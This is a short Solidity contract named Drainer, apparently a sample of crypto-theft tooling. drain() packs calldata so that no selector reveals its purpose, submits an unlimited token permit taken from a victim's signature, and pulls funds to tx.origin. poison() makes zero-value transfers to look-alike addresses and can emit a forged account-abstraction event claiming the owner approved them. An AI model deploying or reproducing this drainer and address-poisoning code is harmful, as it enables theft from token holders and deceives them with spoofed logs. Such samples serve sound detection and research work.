// SPDX-License-Identifier: MIT
pragma solidity 0.8.26;

interface IPermitToken {
    function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external;
    function transferFrom(address, address, uint256) external returns (bool);
}

/// What thieves send: calldata is packed, so that no selector in it tells what is asked of the token.
contract Drainer {
    event UserOperationEvent(
        bytes32 indexed userOpHash,
        address indexed sender,
        address indexed paymaster,
        uint256 nonce,
        bool success,
        uint256 actualGasCost,
        uint256 actualGasUsed
    );

    /// token, owner, spender, v, r, s: a permit without limit; one unit is taken where the spender is this.
    function drain(bytes calldata packed) external {
        IPermitToken token = IPermitToken(address(bytes20(packed[0:20])));
        address owner = address(bytes20(packed[20:40]));
        address spender = address(bytes20(packed[40:60]));
        bytes32 r = bytes32(packed[61:93]);
        bytes32 s = bytes32(packed[93:125]);
        token.permit(owner, spender, type(uint256).max, 2 ** 40, uint8(packed[60]), r, s);
        if (spender == address(this)) token.transferFrom(owner, tx.origin, 1);
    }

    /// token, owner, look-alike: moves nothing, and may claim that the owner asked for it.
    function poison(bytes calldata packed, bool lies) external {
        IPermitToken token = IPermitToken(address(bytes20(packed[0:20])));
        address owner = address(bytes20(packed[20:40]));
        token.transferFrom(owner, address(bytes20(packed[40:60])), 0);
        if (lies) emit UserOperationEvent(bytes32(uint256(1)), owner, address(0), 0, true, 0, 0);
    }
}
